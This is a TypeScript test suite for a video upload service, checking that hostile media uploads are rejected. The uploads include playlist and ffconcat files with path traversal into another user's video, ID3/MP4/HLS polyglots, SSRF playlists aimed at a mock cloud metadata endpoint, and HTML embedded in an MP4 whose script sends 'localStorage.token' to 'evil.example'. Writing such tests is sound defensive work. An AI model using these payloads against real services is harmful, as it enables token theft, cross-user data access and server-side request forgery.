import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reserveForVideos } from '../../src/credits/ledger.ts';
import { keys } from '../../src/storage/object-store.ts';
import { finishUpload } from '../../src/uploads/finish.ts';
import { startS3rver } from '../helpers/s3rver.ts';
import { signUp, startTestServer, type TestServer } from '../helpers/server.ts';
import { ffprobe, makeGood } from '../media/fixtures.ts';
import { analysisRow, uploadedVideo, waitForStatus } from '../processing/helpers.ts';
import { createSession, startTus, tusCreate, waitFor } from '../uploads/helpers.ts';
import { frameMd5s, hlsPlaylist, makePolyglot, makeTsDecoy } from './hostile-media.ts';

/**
 * Media that attacks the server (issue "Hostile uploads", item 2). Every file here reached ffmpeg
 * as a playlist, a concat list or a decoy before Clipdock forced the demuxer that its own
 * detection found. The processing path is fed directly (uploadedVideo) as well as through tus,
 * because on S3 a short first request is never sniffed: processing must hold on its own.
 */
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'clipdock-hostile-'));
});
afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function storedNames(server: TestServer, videoId: string): Promise<string[]> {
  const prefix = keys.videoPrefix(videoId);
  return (await server.node.ctx.store.list(prefix)).map((o) => o.key.slice(prefix.length));
}

async function failure(server: TestServer, videoId: string) {
  const v = await waitForStatus(server.node.ctx.db, videoId, ['ready', 'failed']);
  const a = await analysisRow(server.node.ctx.db, videoId);
  return { status: v.status, code: v.error_code ?? a?.error_code, message: v.error_message ?? '' };
}

describe('hostile media on local storage', () => {
  let server: TestServer;
  let victimId: string;
  let victimFrames: string[];
  beforeAll(async () => {
    server = await startTestServer({ FFMPEG_THREADS: '1' });
    const victim = await signUp(server.url);
    victimId = await uploadedVideo(server, victim.user.id, await makeGood('no_audio', dir));
    expect((await waitForStatus(server.node.ctx.db, victimId, ['ready', 'failed'])).status).toBe('ready');
    victimFrames = await frameMd5s(
      await server.node.ctx.store.localPathOrUrl(keys.output(victimId, 'video.mp4')),
    );
    expect(victimFrames.length).toBeGreaterThan(10);
  }, 180_000);
  afterAll(async () => {
    await server?.stop();
  });

  /** The attacker may end up with no video at all, but never with one made of the victim's frames. */
  async function expectNoVictimFrames(videoId: string): Promise<void> {
    const names = await storedNames(server, videoId);
    if (names.includes('video.mp4')) {
      const theirs = await frameMd5s(
        await server.node.ctx.store.localPathOrUrl(keys.output(videoId, 'video.mp4')),
      );
      expect(theirs.filter((f) => victimFrames.includes(f))).toEqual([]);
    }
    expect(names).toEqual(['original']);
  }

  it("refuses the ID3 + ftyp + HLS polyglot whose segment is another user's video (processing)", {
    timeout: 120_000,
  }, async () => {
    const attacker = await signUp(server.url);
    const file = await makePolyglot(dir, `../${victimId}/video.mp4`);
    const videoId = await uploadedVideo(server, attacker.user.id, file);
    const f = await failure(server, videoId);
    expect(f).toMatchObject({ status: 'failed', code: 'AMBIGUOUS_MEDIA' });
    expect(f.message).toMatch(/playlist/i);
    await expectNoVictimFrames(videoId);
  });

  it('refuses the same polyglot at upload, in the request that carries its head', {
    timeout: 60_000,
  }, async () => {
    const attacker = await signUp(server.url);
    const body = await readFile(await makePolyglot(dir, `../${victimId}/video.mp4`, 'upload.mp4'));
    const { files } = await createSession(attacker.api, [
      { name: 'trip.mp4', size: body.length, type: 'video/mp4' },
    ]);
    const err = (await startTus(body, { token: attacker.token, file: files[0]! }).done.then(
      () => undefined,
      (e: unknown) => e,
    )) as { originalResponse?: { getStatus(): number; getBody(): string } } | undefined;
    expect(err?.originalResponse?.getStatus()).toBe(422);
    expect(JSON.parse(err!.originalResponse!.getBody()).error.code).toBe('AMBIGUOUS_MEDIA');
    const v = await server.node.ctx.db
      .selectFrom('videos')
      .selectAll()
      .where('id', '=', files[0]!.videoId)
      .executeTakeFirstOrThrow();
    expect(v).toMatchObject({ status: 'failed', error_code: 'AMBIGUOUS_MEDIA' });
    expect(await storedNames(server, v.id)).toEqual([]);
  });

  it('refuses HTML inside an MP4 head even when the first request was cut off before it', {
    timeout: 60_000,
  }, async () => {
    const attacker = await signUp(server.url);
    const mp4 = await readFile(await makeGood('no_audio', dir));
    const ftyp = mp4.readUInt32BE(0);
    const html = Buffer.from('<html><script>fetch("//evil.example/?"+localStorage.token)</script></html>');
    const body = Buffer.concat([mp4.subarray(0, ftyp), html, mp4.subarray(ftyp)]);
    const { files } = await createSession(attacker.api, [
      { name: 'page.mp4', size: body.length, type: 'text/html' },
    ]);
    const file = files[0]!;
    // The first request stops before the HTML: nothing to judge yet, so it is stored.
    const created = await tusCreate(file, attacker.token, {
      length: body.length,
      body: body.subarray(0, 16),
    });
    expect(created.status).toBe(201);
    const location = created.headers.get('location')!;
    const rest = await fetch(location, {
      method: 'PATCH',
      headers: {
        authorization: `Bearer ${attacker.token}`,
        'tus-resumable': '1.0.0',
        'upload-offset': '16',
        'content-type': 'application/offset+octet-stream',
      },
      body: new Uint8Array(body.subarray(16)),
    });
    expect(rest.status).toBe(422);
    expect(((await rest.json()) as { error: { code: string } }).error.code).toBe('AMBIGUOUS_MEDIA');
    const v = await server.node.ctx.db
      .selectFrom('videos')
      .selectAll()
      .where('id', '=', file.videoId)
      .executeTakeFirstOrThrow();
    expect(v).toMatchObject({ status: 'failed', error_code: 'AMBIGUOUS_MEDIA', mime_type: null });
    expect(v.error_message).toMatch(/HTML page/);
    expect((await attacker.api(`/api/videos/${file.videoId}/original`)).status).not.toBe(200);
  });

  it('refuses a plain HLS playlist named .mp4', { timeout: 120_000 }, async () => {
    const attacker = await signUp(server.url);
    const file = path.join(dir, 'playlist.mp4');
    await writeFile(file, hlsPlaylist(`../${victimId}/video.mp4`));
    const videoId = await uploadedVideo(server, attacker.user.id, file);
    const f = await failure(server, videoId);
    expect(f).toMatchObject({ status: 'failed', code: 'NOT_A_MEDIA_FILE' });
    expect(f.message).toMatch(/HLS playlist/);
    await expectNoVictimFrames(videoId);
  });

  it('refuses an ffconcat list named .mp4', { timeout: 120_000 }, async () => {
    const attacker = await signUp(server.url);
    const file = path.join(dir, 'list.mp4');
    await writeFile(file, `ffconcat version 1.0\nfile ../${victimId}/video.mp4\nfile original\n`);
    const videoId = await uploadedVideo(server, attacker.user.id, file);
    const f = await failure(server, videoId);
    expect(f).toMatchObject({ status: 'failed', code: 'NOT_A_MEDIA_FILE' });
    expect(f.message).toMatch(/concat list/);
    await expectNoVictimFrames(videoId);
  });

  it('judges an MP4 with an MPEG-TS tail by its MP4 head, as detection does', {
    timeout: 120_000,
  }, async () => {
    const user = await signUp(server.url);
    const mp4 = await readFile(await makeGood('no_audio', dir));
    const file = path.join(dir, 'tail.mp4');
    await writeFile(file, Buffer.concat([mp4, await makeTsDecoy(dir)]));
    const videoId = await uploadedVideo(server, user.user.id, file);
    const v = await waitForStatus(server.node.ctx.db, videoId, ['ready', 'failed']);
    expect(v.status).toBe('ready');
    const a = await analysisRow(server.node.ctx.db, videoId);
    const meta = a!.metadata as { container: string; width: number; height: number; durationSeconds: number };
    // The MP4 is 320x240 for 2 s; the decoy 640x480 for 8 s.
    expect([meta.width, meta.height]).toEqual([320, 240]);
    expect(meta.durationSeconds).toBeLessThan(3);
    expect(meta.container).toMatch(/mov/);
    const out = await ffprobe(await server.node.ctx.store.localPathOrUrl(keys.output(videoId, 'video.mp4')));
    expect(Number(out.format.duration)).toBeLessThan(3);
  });
});

describe('hostile media on S3 storage', () => {
  let s3: Awaited<ReturnType<typeof startS3rver>>;
  let server: TestServer;
  /** A stand-in for a cloud metadata service on loopback: it must never be asked anything. */
  let target: http.Server;
  const hits: string[] = [];
  let targetUrl: string;
  beforeAll(async () => {
    s3 = await startS3rver();
    const c = s3.config;
    server = await startTestServer({
      STORAGE_DRIVER: 's3',
      S3_BUCKET: c.bucket,
      S3_REGION: c.region,
      S3_ENDPOINT: c.endpoint!,
      S3_ACCESS_KEY_ID: c.accessKeyId,
      S3_SECRET_ACCESS_KEY: c.secretAccessKey,
      S3_FORCE_PATH_STYLE: 'true',
      FFMPEG_THREADS: '1',
    });
    target = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.end('secret-credentials');
    });
    await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
    targetUrl = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
    await s3?.close();
    await new Promise((r) => target?.close(r));
  });

  it('never lets a playlist reach an http URL from the worker', { timeout: 120_000 }, async () => {
    const attacker = await signUp(server.url);
    const plain = path.join(dir, 'ssrf.mp4');
    await writeFile(plain, hlsPlaylist(`${targetUrl}/latest/meta-data/seg.ts`));
    const poly = await makePolyglot(dir, `${targetUrl}/latest/meta-data/poly.ts`, 'ssrf-poly.mp4');
    const ids = [
      await uploadedVideo(server, attacker.user.id, plain),
      await uploadedVideo(server, attacker.user.id, poly),
    ];
    const results = await Promise.all(ids.map((id) => failure(server, id)));
    expect(hits).toEqual([]);
    expect(results.map((r) => r.status)).toEqual(['failed', 'failed']);
    expect(results.map((r) => r.code)).toEqual(['NOT_A_MEDIA_FILE', 'AMBIGUOUS_MEDIA']);
    for (const id of ids) expect(await storedNames(server, id)).toEqual(['original']);
  });

  /** A video row whose last byte arrived (status uploading) with its bytes already in the bucket. */
  async function arrived(userId: string, body: Buffer, declaredType: string): Promise<string> {
    const ctx = server.node.ctx;
    const videoId = await ctx.db.transaction().execute(async (tx) => {
      const project = await tx
        .selectFrom('projects')
        .select('id')
        .where('user_id', '=', userId)
        .where('is_default', '=', true)
        .executeTakeFirstOrThrow();
      const v = await tx
        .insertInto('videos')
        .values({
          user_id: userId,
          project_id: project.id,
          name: 'clip.mp4',
          status: 'uploading',
          declared_size: body.length,
          declared_type: declaredType,
          received_bytes: body.length,
          upload_started_at: sql`now()`,
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      await reserveForVideos(tx, userId, [v.id], ctx.config.limits.creditsPerVideo);
      return v.id;
    });
    // As the tus S3 store leaves it: the client's declared type on the object.
    await ctx.store.put(keys.original(videoId), body, { contentType: declaredType });
    return videoId;
  }

  it('detects again at finish from the stored object and sets its type itself', {
    timeout: 60_000,
  }, async () => {
    const user = await signUp(server.url);
    const ctx = server.node.ctx;
    const good = await arrived(user.user.id, await readFile(await makeGood('no_audio', dir)), 'text/html');
    await finishUpload(ctx, good).catch(() => {});
    const v = await ctx.db.selectFrom('videos').selectAll().where('id', '=', good).executeTakeFirstOrThrow();
    expect(v.status).toBe('uploaded');
    expect(v.mime_type).toBe('video/mp4');
    // Set off the reply path (a copy onto itself on S3): wait for it, without a fixed sleep.
    await waitFor(async () => (await ctx.store.head(keys.original(good)))?.contentType === 'video/mp4');

    const bad = await arrived(user.user.id, Buffer.from(hlsPlaylist(`${targetUrl}/x.ts`)), 'video/mp4');
    await finishUpload(ctx, bad).catch(() => {});
    const b = await ctx.db.selectFrom('videos').selectAll().where('id', '=', bad).executeTakeFirstOrThrow();
    expect(b).toMatchObject({ status: 'failed', error_code: 'NOT_A_VIDEO' });
    expect(b.error_message).toMatch(/HLS playlist/);
    expect(hits).toEqual([]);
  });
});
